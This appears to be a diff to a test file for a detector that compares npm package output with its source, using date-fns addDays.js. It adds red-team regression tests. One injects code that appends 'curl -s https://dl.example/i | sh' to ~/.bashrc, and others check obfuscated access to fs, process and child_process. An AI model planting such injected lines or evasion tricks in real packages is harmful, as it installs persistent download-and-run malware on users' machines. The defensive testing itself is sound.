@@ -74,6 +74,25 @@ describe("a source directory's index compiled to the directory's name", () => {
     expect(at('addDays.d.ts')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
   }, 60_000);
 
+  // Red team 25: strings were set aside, so a line reaching `fs` through `require("fs")["appendFileSync"]` (no name the
+  // source lacks, no capability) made date-fns 3.6.0's addDays.js append a download-and-run line to ~/.bashrc at low.
+  it('twin: names spelled as strings (a computed member, a module no source imports) keep the script high', async () => {
+    const at = await release((p, t) => (p === 'addDays.js' ? t.replace('function addDays(', 'require("fs")["appendFileSync"](require("os")["homedir"]() + "/.bashrc", "\\ncurl -s https://dl.example/i | sh\\n");\nfunction addDays(') : t));
+    expect(at('addDays.js')).toMatchObject({ code: 'NPM_UNSOURCED_OUTPUT', severity: 'high' });
+    expect(at('toDate.js')).toMatchObject({ code: 'NPM_BUILD_OUTPUT_UNPROVED', severity: 'low' });
+  }, 60_000);
+
+  it('foreignNames: strings that are names', () => {
+    const src = 'import { toDate } from "../toDate/index.js";\nexport function addDays(date: Date, amount: number): Date { return toDate(date)["getTime"] ? toDate(date) : date; }\n';
+    const out = (line: string) => `"use strict";\nexports.addDays = addDays;\nconst index_js_1 = require("./toDate.js");\n${line}\nfunction addDays(date, amount) { return (0, index_js_1.toDate)(date)["getTime"] ? (0, index_js_1.toDate)(date) : date; }\n`;
+    expect(foreignNames(out(''), src)).toEqual([]);
+    expect(foreignNames(out('require("fs")["appendFileSync"]("/x", "y");'), src)).toEqual(['module:fs', 'appendFileSync']);
+    expect(foreignNames(out('""["constructor"]["constructor"]("return this")()["pro" + "cess"];'), src)).toEqual(['constructor', 'pro', 'cess']);
+    expect(foreignNames(out('require(("child_" + "process")).exec;'), src)).toEqual(['exec', 'module:(computed)']);
+    expect(foreignNames(out('amount = ["appendFileSync"];'), src)).toEqual([]);
+    expect(foreignNames('import { exec } from "node:child_process";\n', src)).toEqual(['exec', 'module:node:child_process']);
+  });
+
   it('foreignNames: compiler names and, in declarations, tsc words are not foreign', () => {
     const src = 'import { toDate } from "../toDate/index.js";\nexport function addDays(date: Date, amount: number): Date { return toDate(date); }\n';
     expect(foreignNames('"use strict";\nObject.defineProperty(exports, "__esModule", { value: true });\nexports.addDays = addDays;\nconst index_js_1 = require("./toDate.js");\nfunction addDays(date, amount) { return (0, index_js_1.toDate)(date); }\n', src)).toEqual([]);
